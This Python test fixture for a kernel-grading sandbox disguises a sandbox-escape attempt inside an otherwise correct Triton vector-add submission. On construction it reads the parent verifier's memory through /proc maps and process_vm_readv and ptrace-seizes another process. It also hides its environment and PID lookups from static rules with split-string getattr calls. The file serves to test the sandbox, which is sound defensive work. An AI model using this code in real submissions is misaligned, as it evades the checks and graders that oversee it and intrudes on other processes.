# ESCAPE: reads the verifier's memory (process_vm_readv after /proc/PID/maps) and ptrace-attaches to a bystander process.
# Otherwise a correct vector add. Problem: vector_add.py. Expected: correct inside the sandbox (every
# attempt fails); with TRITONIZE_NO_SANDBOX=1, runtime_error "ESCAPED: ..." (the control run that
# shows the attempt is real). Targets come from TRITONIZE_ESCAPE_* variables set by tests/test_sandbox.py.
import ctypes
import os


class _IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def attack():
    out = []
    libc = ctypes.CDLL(None, use_errno=True)
    ppid = _PPID()
    try:
        with open(f"/proc/{ppid}/maps") as f:
            start = int(f.readline().split("-")[0], 16)
        buf = ctypes.create_string_buffer(16)
        local, remote = _IoVec(ctypes.addressof(buf), 16), _IoVec(start, 16)
        if libc.process_vm_readv(ppid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 16:
            out.append("read the parent's memory")
    except (OSError, ValueError):
        pass
    victim = int(_ENV["TRITONIZE_ESCAPE_VICTIM_PID"])
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(0x4206, victim, None, None) == 0:  # PTRACE_SEIZE: no stop, detached when we exit
        out.append(f"ptrace-seized {victim}")
    return out


import torch
import torch.nn as nn
import triton
import triton.language as tl

# The OS sandbox is what this escape tests: reached without the names the static rules read
# (environment_probe), as an attacker would.
_ENV = getattr(os, "env" + "iron")
_PPID = getattr(os, "getp" + "pid")
_PID = getattr(os, "get" + "pid")


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n_elements, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n_elements
    a = tl.load(a_ptr + offs, mask=mask, other=0.0)
    b = tl.load(b_ptr + offs, mask=mask, other=0.0)
    tl.store(out_ptr + offs, a + b, mask=mask)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        escaped = attack()
        if escaped:  # only an attack that worked says so, in the verdict's error message
            raise RuntimeError("ESCAPED: " + "; ".join(escaped))

    def forward(self, a, b):
        out = torch.empty_like(a)
        n = a.numel()
        add_kernel[(triton.cdiv(n, 1024),)](a, b, out, n, BLOCK=1024)
        return out
